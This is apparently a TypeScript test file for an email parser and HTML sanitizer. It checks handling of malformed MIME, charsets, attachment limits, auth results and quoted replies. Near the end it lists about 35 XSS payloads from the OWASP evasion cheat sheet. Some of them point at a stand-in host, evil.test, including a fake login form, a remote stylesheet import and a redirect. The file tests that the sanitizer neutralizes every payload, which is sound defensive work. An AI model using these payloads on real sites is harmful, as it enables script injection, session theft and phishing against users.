import { describe, expect, it } from 'vitest';
import { parseEmail, splitQuoted } from './parse';
import { sanitizeEmailHtml } from './sanitize';

// Bad and tricky mail, parsed the way the watcher and the SMTP receiver parse it.
const LIMITS = { maxAttachmentBytes: 1024, maxAttachments: 3, maxTextChars: 2000 };
const raw = (lines: string[]) => Buffer.from(lines.join('\r\n'), 'utf8');

describe('parseEmail', () => {
  it('survives malformed MIME: an unclosed multipart, junk header lines, binary bytes', async () => {
    const junk = Buffer.concat([
      raw(['From: Ada <ada@customer.test>', 'Subject: broken', 'this is not a header', 'Content-Type: multipart/mixed; boundary="never-closed"', '', '--never-closed', 'Content-Type: text/plain', '', 'Still readable']),
      Buffer.from([0, 255, 254, 13, 10, 0x80, 0x81]),
    ]);
    const m = await parseEmail(junk, LIMITS);
    expect(m.from?.address).toBe('ada@customer.test');
    expect(m.text).toContain('Still readable');
    expect(m.messageIdMissing).toBe(true);
  });

  it('decodes raw 8-bit UTF-8 headers and encoded words in any charset', async () => {
    const m = await parseEmail(
      raw(['From: Zoë Ünal <zoe@customer.test>', 'Subject: Grüße aus Köln', 'Content-Type: text/plain; charset=windows-1252', 'Content-Transfer-Encoding: 8bit', '', '']),
      LIMITS,
    );
    expect(m.subject).toBe('Grüße aus Köln');
    expect(m.from).toEqual({ address: 'zoe@customer.test', name: 'Zoë Ünal' });
    const latin = Buffer.concat([raw(['From: a@customer.test', 'Subject: =?iso-8859-1?Q?caf=E9?=', 'Content-Type: text/plain; charset=iso-8859-1', '', '']), Buffer.from([0x63, 0x61, 0x66, 0xe9])]);
    expect(await parseEmail(latin, LIMITS)).toMatchObject({ subject: 'café', text: 'café' });
  });

  it('gives a mail without Message-ID a stable one made from its bytes', async () => {
    const bytes = raw(['From: a@customer.test', 'Subject: no id', '', 'hello']);
    const [a, b] = [await parseEmail(bytes, LIMITS), await parseEmail(bytes, LIMITS)];
    expect(a.messageIdMissing).toBe(true);
    expect(a.messageId).toMatch(/^<[0-9a-f]{64}\.missing@kaon\.invalid>$/);
    expect(b.messageId).toBe(a.messageId);
  });

  it('keeps at most the attachment limits and says what it left out (attachment bombs)', async () => {
    const part = (name: string, bytes: number) => ['--b', `Content-Type: application/octet-stream; name="${name}"`, `Content-Disposition: attachment; filename="${name}"`, 'Content-Transfer-Encoding: base64', '', Buffer.alloc(bytes, 65).toString('base64')];
    const lines = ['From: a@customer.test', 'Subject: many', 'Content-Type: multipart/mixed; boundary="b"', '', '--b', 'Content-Type: text/plain', '', 'files'];
    for (let i = 0; i < 6; i++) lines.push(...part(`f${i}.bin`, 100));
    lines.push(...part('huge.bin', 5000), '--b--', '');
    const m = await parseEmail(raw(lines), LIMITS);
    expect(m.attachments.map((a) => a.name)).toEqual(['f0.bin', 'f1.bin', 'f2.bin']);
    expect(m.dropped).toHaveLength(4);
    expect(m.dropped.join('\n')).toContain('huge.bin');
    expect(m.dropped.join('\n')).toContain('at most 3 attachments');
  });

  it('cuts a very long text at the limit, with a note', async () => {
    const m = await parseEmail(raw(['From: a@customer.test', 'Subject: long', '', 'x'.repeat(10_000)]), LIMITS);
    expect(m.text.length).toBeLessThan(2200);
    expect(m.text).toContain('Kaon keeps the first 2000 characters');
  });

  it('keeps the Authentication-Results verdicts (a forged From shows fail)', async () => {
    const m = await parseEmail(
      raw(['Authentication-Results: mx.kaon.test; spf=fail smtp.mailfrom=bank.test; dkim=none; dmarc=fail header.from=bank.test', 'From: Your Bank <security@bank.test>', 'Subject: verify', '', 'click']),
      LIMITS,
    );
    expect(m.authResults).toEqual({ spf: 'fail', dkim: 'none', dmarc: 'fail' });
    expect((await parseEmail(raw(['From: a@customer.test', '', 'x']), LIMITS)).authResults).toBeNull();
  });

  it('tells auto-replies, bulk and list mail, and bounces from mail', async () => {
    const kindOf = async (header: string) => (await parseEmail(raw(['From: a@customer.test', header, '', 'x'].filter(Boolean)), LIMITS)).kind;
    expect(await kindOf('Auto-Submitted: auto-replied')).toBe('auto');
    expect(await kindOf('Auto-Submitted: no')).toBe('mail');
    expect(await kindOf('X-Autoreply: yes')).toBe('auto');
    expect(await kindOf('Precedence: auto_reply')).toBe('auto');
    expect(await kindOf('Precedence: bulk')).toBe('bulk');
    expect(await kindOf('Precedence: junk')).toBe('bulk');
    expect(await kindOf('List-Id: <news.shop.test>')).toBe('bulk');
    expect(await kindOf('X-Failed-Recipients: b@customer.test')).toBe('bounce');
    expect(await kindOf('')).toBe('mail');
  });
});

describe('splitQuoted', () => {
  it.each([
    ['Gmail', 'Thanks!\n\nOn Mon, 1 Dec 2026 at 10:00, Support <s@k.test> wrote:\n> old', 'Thanks!'],
    ['Gmail, wrapped', 'Thanks!\n\nOn Mon, 1 Dec 2026 at 10:00, Support\n<s@k.test> wrote:\n> old', 'Thanks!'],
    ['Outlook', 'Thanks!\n\n________________________________\nFrom: Support <s@k.test>\nSent: Monday\n\nold', 'Thanks!'],
    ['Outlook, plain', 'Thanks!\n\n-----Original Message-----\nFrom: Support', 'Thanks!'],
    ['a signature', 'Thanks!\n-- \nAda Lovelace\nAnalytical Engines Ltd', 'Thanks!'],
    ['French', 'Merci !\n\nLe lun. 1 déc. 2026, Support a écrit :\n> old', 'Merci !'],
    ['German', 'Danke!\n\nAm 01.12.2026 um 10:00 schrieb Support <s@k.test>:\n> old', 'Danke!'],
    ['bottom quote only', 'Thanks!\n> old\n> older', 'Thanks!'],
  ])('%s', (_what, text, fresh) => {
    const split = splitQuoted(text);
    expect(split.text).toBe(fresh);
    expect(split.quoted).not.toBe('');
  });

  it('keeps inline answers between quotes as the new text', () => {
    expect(splitQuoted('> question?\nanswer\n> another?\nsecond answer')).toEqual({ text: '> question?\nanswer\n> another?\nsecond answer', quoted: '' });
  });
});

// Known XSS vectors (OWASP filter evasion cheat sheet and friends): none survives the sanitizer.
const XSS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//xss.test/xss.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC="jav&#x09;ascript:alert(1);">',
  '<a href="  javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<svg onload=alert(1)><circle r=1></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="https://evil.test"><input name=password><button>Log in</button></form>',
  '<body onload=alert(1)>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</div>',
  '<style>@import "https://evil.test/x.css"; body{display:none}</style>',
  '<link rel=stylesheet href="https://evil.test/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
  '<base href="https://evil.test/">',
  '<p onmouseover="alert(1)">hover</p>',
  '<details open ontoggle=alert(1)>',
  '<a href="https://ok.test" onclick="alert(1)" target="_self">ok</a>',
  '<<script>script>alert(1)<</script>/script>',
  '<img src="x" alt="&quot; onerror=&quot;alert(1)">',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<template><img src=x onerror=alert(1)></template>',
  '<img src="cid:logo" onerror="alert(1)">',
];

describe('the HTML sanitizer', () => {
  it.each(XSS)('neutralizes %s', (payload) => {
    const out = sanitizeEmailHtml(`<p>before</p>${payload}<p>after</p>`);
    expect(out).not.toMatch(/<\s*(script|iframe|object|embed|form|input|button|style|link|meta|base|svg|math|body|details|textarea|template|noscript)\b/i);
    expect(out).not.toMatch(/\son\w+\s*=/i);
    expect(out).not.toMatch(/javascript:|vbscript:|data:text/i);
    expect(out).not.toMatch(/\sstyle\s*=/i);
    expect(out).not.toMatch(/\ssrcdoc\s*=/i);
    expect(out).not.toMatch(/target="_self"/);
    expect(out).toContain('<p>before</p>');
  });

  it('keeps ordinary formatting, opens links in a new tab without referrer, and holds remote images back', () => {
    const out = sanitizeEmailHtml('<p>Hi <b>Ada</b>,</p><ul><li>one</li></ul><a href="https://shop.test/o/42">order</a><img src="https://t.test/p.gif" alt="p"><img src="cid:logo@x" alt="logo">');
    expect(out).toBe(
      '<p>Hi <b>Ada</b>,</p><ul><li>one</li></ul><a href="https://shop.test/o/42" target="_blank" rel="noopener noreferrer nofollow">order</a><img alt="p" data-kaon-src="https://t.test/p.gif" /><img alt="logo" src="cid:logo@x" />',
    );
  });
});
